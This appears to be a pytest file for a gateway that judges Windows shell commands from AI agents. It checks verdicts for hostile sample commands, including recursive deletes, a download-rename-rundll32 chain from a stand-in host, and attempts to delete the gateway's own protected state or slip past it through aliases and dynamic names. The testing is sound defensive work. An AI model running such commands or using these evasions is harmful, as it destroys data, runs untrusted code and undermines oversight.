"""Behaviour a third random mutation sample of policy/ found unpinned (issue 12, seed 20261207).

Each test is a command an agent could send, or a tool call, and what the gateway reads from it: the
verdict, an effect, the arguments the analyser folds, or the text of a reason. Expectations are what
Windows, PowerShell and cmd.exe do; where the gateway is stricter than Windows (it asks about a value it
cannot know rather than guess), the test says so.
"""

from __future__ import annotations

import threading

import pytest

from policy.rules.command import judge_call
from policy.rules.keyboard import TypingTarget
from policy.rules.match import load_rules
from policy.rules.shell.ops import EffectKind
from policy.typed import _judge
from tests._requirements import requirement
from tests.policy._world import context
from tests.policy.verdicts import RULES, args_of, effect_rows, ps, reason_of

K = EffectKind


# ---------------------------------------------------------------------------------------
# File effects of cmdlets, .NET calls and programs


@requirement("S-RULE-85")
def test_a_default_whose_key_powershell_ignores_leaves_the_others_applied() -> None:
    """S-RULE-85: a hashtable with a key that names no parameter (`NoColon`) still sets `Remove-Item:Recurse`."""
    command = "$PSDefaultParameterValues = @{'NoColon' = 1; 'Remove-Item:Recurse' = $true}; Remove-Item C:\\t\\x"
    assert ps(command) == ("recursive-delete", "deny")
    assert (K.DELETE_RECURSIVE, "C:\\t\\x", "Remove-Item -Recurse") in effect_rows(command)


@requirement("S-RULE-18")
def test_dotnet_file_calls_write_their_destination() -> None:
    """S-RULE-18: `[IO.File]::CreateSymbolicLink(l, t)` writes l; `[IO.File]::Move(a, b)` moves a and writes b."""
    assert effect_rows("[IO.File]::CreateSymbolicLink('C:\\t\\l', 'C:\\t\\x')") == [
        (K.WRITE, "C:\\t\\l", "[IO.File]::CreateSymbolicLink")
    ]
    assert effect_rows("[IO.File]::Move('C:\\t\\a', 'C:\\t\\b')") == [
        (K.MOVE, "C:\\t\\a", "[IO.File]::Move"),
        (K.WRITE, "C:\\t\\b", "[IO.File]::Move destination"),
    ]


@requirement("S-RULE-102")
def test_a_file_objects_move_to_moves_the_file() -> None:
    """S-RULE-102: `(Get-Item a).MoveTo(b)` moves a (as `Move-Item a b` does) and writes b."""
    found = effect_rows("(Get-Item C:\\t\\a).MoveTo('C:\\t\\b')")
    assert (K.MOVE, "C:\\t\\a", ".MoveTo()") in found
    assert (K.WRITE, "C:\\t\\b", ".MoveTo() destination") in found


@requirement("S-RULE-18")
def test_set_content_and_invoke_item_effects() -> None:
    """S-RULE-18: `Set-Content f` writes f; `Invoke-Item x.exe` runs x.exe (it opens the file with its program)."""
    assert effect_rows("Set-Content C:\\t\\a.txt hi") == [(K.WRITE, "C:\\t\\a.txt", "Set-Content")]
    assert effect_rows("Invoke-Item C:\\t\\x.exe") == [(K.EXECUTE, "C:\\t\\x.exe", "Invoke-Item")]


@requirement("S-RULE-14")
def test_robocopy_purge_to_an_unknown_folder_says_purge() -> None:
    """S-RULE-14: `robocopy a $d /purge` deletes in a folder the gateway cannot name; the reason says `/purge`."""
    reasons = [h.reason for h in judge_call("PowerShell", {"command": "robocopy C:\\t\\a $d /purge"}).hits]
    assert any("robocopy /purge of a target that is not constant" in r for r in reasons)
    assert not any("robocopy /mir" in r for r in reasons)


@requirement("S-RULE-115")
def test_tar_reads_the_archive_named_by_file_equals() -> None:
    """S-RULE-115: bsdtar's long form `--file=a.tar` names the archive read, as `-f a.tar` does."""
    found = effect_rows("tar --extract --file=C:\\t\\a.tar -C C:\\t\\out")
    assert (K.READ, "C:\\t\\a.tar", "tar -x") in found


@requirement("S-RULE-67")
def test_git_work_tree_may_hold_an_equals_sign() -> None:
    """S-RULE-67: `git --work-tree=C:\\t\\a=b clean -fdx` cleans C:\\t\\a=b (`=` is legal in a folder name)."""
    found = effect_rows("git --work-tree=C:\\t\\a=b clean -fdx")
    assert [t for k, t, _ in found if k is K.DELETE_RECURSIVE] == ["C:\\t\\a=b"]


@requirement("S-RULE-51")
def test_a_file_named_x_on_a_new_drive_is_that_file_not_the_root() -> None:
    """S-RULE-51: after `New-PSDrive W … -Root C:\\t`, `W:\\X` is C:\\t\\X, not the drive's root C:\\t."""
    found = effect_rows("New-PSDrive -Name W -PSProvider FileSystem -Root C:\\t; Remove-Item W:\\X")
    assert (K.DELETE, "C:\\t\\X", "Remove-Item") in found
    assert (K.DELETE, "C:\\t", "Remove-Item") not in found


@requirement("S-RULE-18")
def test_a_kill_by_the_id_get_process_found_names_that_id() -> None:
    """S-RULE-18: `Stop-Process -Id (Get-Process -Id 4).Id` stops process 4 (System)."""
    assert effect_rows("Stop-Process -Id (Get-Process -Id 4).Id") == [(K.KILL, "pid:4", "Stop-Process")]


@requirement("S-RULE-21")
def test_load_file_without_a_path_loads_nothing() -> None:
    """S-RULE-21: `[Reflection.Assembly]::LoadFile()` with no path fails in PowerShell; the gateway judges it."""
    assert ps("[Reflection.Assembly]::LoadFile()") is None


@requirement("S-RULE-04")
def test_a_downloaded_file_renamed_to_a_dll_and_run_is_download_and_run() -> None:
    """S-RULE-04: download x.txt, rename it x.dll, `rundll32 x.dll,Run`: the downloaded content runs."""
    command = (
        "Invoke-WebRequest https://e.com/x.txt -OutFile C:\\t\\x.txt; Rename-Item C:\\t\\x.txt x.dll; "
        "rundll32 C:\\t\\x.dll,Run"
    )
    assert ps(command) == ("download-execute", "deny")


@requirement("S-SELF-07")
def test_a_hardlink_with_no_existing_file_links_to_nothing() -> None:
    """S-SELF-07: `fsutil hardlink create l` without the existing file makes no link (fsutil prints its usage), so
    it reaches none of the gateway's files, even a state folder named `xxxx` in the profile."""
    rules = load_rules(protected_paths=["C:\\Users\\user\\xxxx"])
    assert rules.match("PowerShell", {"command": "fsutil hardlink create C:\\t\\l"}) is None
    linked = rules.match("PowerShell", {"command": "fsutil hardlink create C:\\t\\l C:\\Users\\user\\xxxx\\s.json"})
    assert linked is not None
    assert linked.rule_id == "self-protection"


# ---------------------------------------------------------------------------------------
# Services and registry places


@requirement("S-RULE-98")
def test_disabling_sshd_is_not_opening_remote_access() -> None:
    """S-RULE-98: `sc config sshd start= disabled` stops sshd starting: no remote-access weakening."""
    command = "sc.exe config sshd start= disabled"
    assert all(k is not K.SECURITY_WEAKENING for k, _, _ in effect_rows(command))
    assert ps(command) != ("security-weakening", "deny")


@requirement("S-RULE-32")
def test_only_the_proxy_values_of_internet_settings_are_a_network_change() -> None:
    """S-RULE-32: `ProxyServer` under Internet Settings is a network change; `ShowPunycode` there is not."""
    key = "'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings'"
    assert ps(f"Set-ItemProperty {key} -Name ProxyServer -Value 'h:8080'") == ("network-change", "ask")
    assert ps(f"Set-ItemProperty {key} -Name ProxyEnable -Value 1") == ("network-change", "ask")
    assert ps(f"Set-ItemProperty {key} -Name ShowPunycode -Value 1") is None


@requirement("S-RULE-84")
def test_a_value_name_pattern_with_a_range_late_in_its_set_is_judged() -> None:
    """S-RULE-84: `[abcw-z]*` can name `WINMCP_GATEWAY_X` (its set holds w); judged in bounded time (S-RULE-11)."""
    found: list[object] = []
    command = "Remove-ItemProperty HKCU:\\Environment -Name '[abcw-z]*'"
    worker = threading.Thread(target=lambda: found.append(ps(command)), daemon=True)
    worker.start()
    worker.join(20)
    assert found == [("self-protection", "deny")]


# ---------------------------------------------------------------------------------------
# cmd.exe and interpreters


@requirement("S-RULE-15")
def test_set_a_compound_assignment_makes_the_variable_a_number() -> None:
    """S-RULE-15: after `set /a t+=1`, t holds the number cmd computed, no longer the path it held."""
    found = effect_rows('cmd /v:on /c "set t=C:\\t\\x& set /a t+=1& rd /s /q !t!"')
    assert [t for k, t, _ in found if k is K.DELETE_RECURSIVE] == [None]


@requirement("S-RULE-16")
def test_conhost_runs_the_command_line_after_double_dash() -> None:
    """S-RULE-16: `conhost.exe -- cmd /c rd /s /q C:\\t\\x` runs that cmd line."""
    assert (K.DELETE_RECURSIVE, "C:\\t\\x", "rd /s") in effect_rows("conhost.exe -- cmd /c rd /s /q C:\\t\\x")


# ---------------------------------------------------------------------------------------
# The PowerShell analyser


@requirement("S-RULE-13")
def test_redirecting_to_null_discards_the_output() -> None:
    """S-RULE-13: `Get-ChildItem > $null` writes no file."""
    assert ps("Get-ChildItem > $null") is None
    assert effect_rows("Get-ChildItem > $null") == []


@requirement("S-RULE-13")
def test_an_alias_to_a_module_qualified_cmdlet_runs_that_cmdlet() -> None:
    """S-RULE-13: `Set-Alias x Microsoft.PowerShell.Management\\Remove-Item; x C:\\t\\x` deletes C:\\t\\x."""
    assert effect_rows("Set-Alias x Microsoft.PowerShell.Management\\Remove-Item; x C:\\t\\x") == [
        (K.DELETE, "C:\\t\\x", "Remove-Item")
    ]


@requirement("S-RULE-16")
def test_a_program_after_a_function_definition_is_still_a_program() -> None:
    """S-RULE-16: a script that defines a function still runs `cmd /c rd /s /q …` as cmd."""
    assert (K.DELETE_RECURSIVE, "C:\\t\\x", "rd /s") in effect_rows("function f {}; cmd /c rd /s /q C:\\t\\x")
    assert ps("function f {}; cmd /c rd /s /q C:\\Windows") == ("protected-place-delete", "deny")


@requirement("S-RULE-14")
def test_get_command_of_a_variable_is_a_name_that_is_not_constant() -> None:
    """S-RULE-14: `& (Get-Command $n) x` runs a command whose name the gateway cannot know, and says so."""
    assert "runs a command whose name is not constant" in reason_of("& (Get-Command $n) C:\\t\\x")


@requirement("S-RULE-14")
def test_a_string_made_of_strings_that_are_no_chars_is_not_a_path() -> None:
    """S-RULE-14: `[string]::new(('C:\\t', 'x'))` fails in PowerShell ('C:\\t' is no char): no path `C:\\tx`."""
    command = "Remove-Item ([string]::new(('C:\\t', 'x')))"
    assert effect_rows(command) == [(K.DELETE, None, "Remove-Item")]
    assert ps(command) == ("dynamic-command", "ask")


@requirement("S-RULE-13")
def test_folded_numbers_and_string_methods() -> None:
    """S-RULE-13: `1MB` is 1048576; `' x '.Trim()` is `x`; `[string]::Concat(a, '', b)` is `ab`."""
    assert args_of("Remove-Item ('C:\\t\\' + 1MB)", "remove-item") == [("C:\\t\\1048576",)]
    assert args_of("Remove-Item (' C:\\t\\x '.Trim())", "remove-item") == [("C:\\t\\x",)]
    assert args_of("Remove-Item ([string]::Concat('C:\\t\\', '', 'x'))", "remove-item") == [("C:\\t\\x",)]


@requirement("S-RULE-13")
def test_a_switch_clause_named_x_after_another_on_one_line_parses() -> None:
    """S-RULE-13: `switch ($x) { 1 {'a'} X {'b'} }` is valid PowerShell: the command after it is judged, not refused."""
    command = "switch ($x) { 1 {'a'} X {'b'} }; Remove-Item C:\\t\\z"
    assert ps(command) is None
    assert effect_rows(command) == [(K.DELETE, "C:\\t\\z", "Remove-Item")]


# ---------------------------------------------------------------------------------------
# Typed text


@requirement("S-RULE-103")
def test_code_typed_into_an_interpreter_points_to_powershell() -> None:
    """S-RULE-103: text typed into Python asks, and the remedy names PowerShell, which the gateway can judge."""
    hit = _judge("import shutil", (TypingTarget.INTERPRETER, "a Python prompt"), context(rules=RULES), enter=True)
    assert hit is not None
    assert "Instead, do it with a PowerShell command the gateway can judge" in hit.reason


@requirement("S-RULE-93")
def test_net_use_of_no_drive_maps_nothing() -> None:
    """S-RULE-93: `net use \\\\ \\\\h\\s` names no drive (net refuses it): `.\\x.exe` in \\\\o\\x runs \\\\o\\x\\x."""
    found = effect_rows("net use \\\\ \\\\h\\s; Set-Location \\\\o\\x; .\\x.exe")
    run = [t or "" for k, t, _ in found if k is K.EXECUTE]
    assert "\\\\o\\x\\x" in run and not any(t.startswith("\\\\h") for t in run)  # `.\\x.exe`: by its path


@requirement("S-RULE-14")
def test_a_command_found_by_a_constant_wildcard_is_not_called_not_constant() -> None:
    """S-RULE-14: `GetCommand('Remove-I*', …)` names a constant wildcard: it asks, without calling the name not
    constant (today the reason's quoted part is cut to `'& …'`, so the wildcard itself is not shown)."""
    command = "$c = $ExecutionContext.InvokeCommand.GetCommand('Remove-I*', 'Cmdlet'); & $c C:\\t\\x"
    assert ps(command) == ("dynamic-command", "ask")
    assert "whose name is not constant" not in reason_of(command)


@requirement("S-RULE-93")
@pytest.mark.parametrize(
    "command",
    [
        r"Set-Location \\h\s; Set-Location sub; .\x.exe",
        r'cmd /c "pushd \\h\s & cd sub & x.exe"',
        r"Set-Location \\h\s; pushd.exe C:\t; .\x.exe",
        r"Set-Location \\h\s; Set-Location ..\other; x.exe",
    ],
)
def test_a_relative_folder_change_stays_in_the_share_and_a_program_moves_nothing(command: str) -> None:
    """S-RULE-93: `sub` of a share is in the share; `pushd.exe` is a program, which cannot move the shell's folder
    (both found by helper-31's mutation pass: each let a program from another machine run unasked)."""
    assert ps(command) == ("remote-code", "ask")
    assert ps(r"Set-Location \\h\s; Set-Location C:\t; .\x.exe") is None
